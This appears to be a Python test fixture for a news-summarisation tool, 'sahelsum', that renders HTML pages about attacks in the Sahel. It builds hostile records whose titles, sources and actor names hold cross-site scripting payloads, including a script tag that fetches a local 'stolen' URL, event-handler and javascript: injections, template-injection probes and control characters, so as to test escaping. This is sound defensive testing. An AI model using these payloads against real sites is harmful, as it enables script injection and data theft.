"""Records for the page: the gold's own, and a corpus whose every string would like to run."""

from __future__ import annotations

from functools import cache

from gold_records import BY_ID, record_of

import sahelsum
from sahelsum.corroboration.whole import corroborate
from sahelsum.record import Record
from sahelsum.reference import Reference
from sahelsum.report.page import page

ABALA = ("en15-abala-bulletin", "fr05-abala-total-et-parties", "fr13-abala-depeche")
EVIL = (
    "</script><script>fetch('http://127.0.0.1:9/stolen');alert(1)</script>"
    "<img src=http://127.0.0.1:9/x.png onerror=alert(1)><svg/onload=alert(1)><!-- \"'><b onmouseover=alert(1)>"
    " \u2028\u202egnp\u2066\x00\x07 ]]> &lt;script&gt; {{ 7*7 }} {% raw %} javascript:alert(1)"
)
ATTACK = (
    "Gunmen kill twelve soldiers near Gossi\n\nBamako, 4 March 2025\n\nGunmen killed <b onclick=alert(1)>twelve"
    " soldiers</b> near Gossi on Tuesday, the army said. The shooting went on until noon, and 😀 smoke stood over the"
    " market when the men left on their motorcycles. Nobody has claimed the attack, which the governor condemned."
    "\n\n{0}\n"
)


def records(*names: str) -> list[Record]:
    """What gold says of these articles, as records."""
    return [record_of(BY_ID[name]) for name in names]


def html(*found: Record) -> str:
    """The page about them."""
    return page(corroborate(found), found, Reference.load())


@cache
def abala() -> str:
    """The page about three articles on one attack."""
    return html(*records(*ABALA))


def hostile() -> list[Record]:
    """Records of articles, sources, outlets and actors that hold markup, controls and scripts."""
    made = []
    for at, source in enumerate(("javascript:alert(1)", f"http://127.0.0.1:9/{EVIL}", f"desk/{EVIL}.txt")):
        text = ATTACK.format(EVIL) + "x" * at
        record = sahelsum.summarise(text)
        about = record.article.model_copy(update={"source": source, "title": EVIL, "publisher": f"{EVIL}{at}"})
        evil = [
            one.model_copy(update={"actors": tuple(actor.model_copy(update={"name": EVIL, "canonical": EVIL})
                                                   for actor in one.actors)})
            for one in record.incidents
        ]  # fmt: skip
        made.append(record.model_copy(update={"article": about, "incidents": tuple(evil), "summary": EVIL}))
    return made
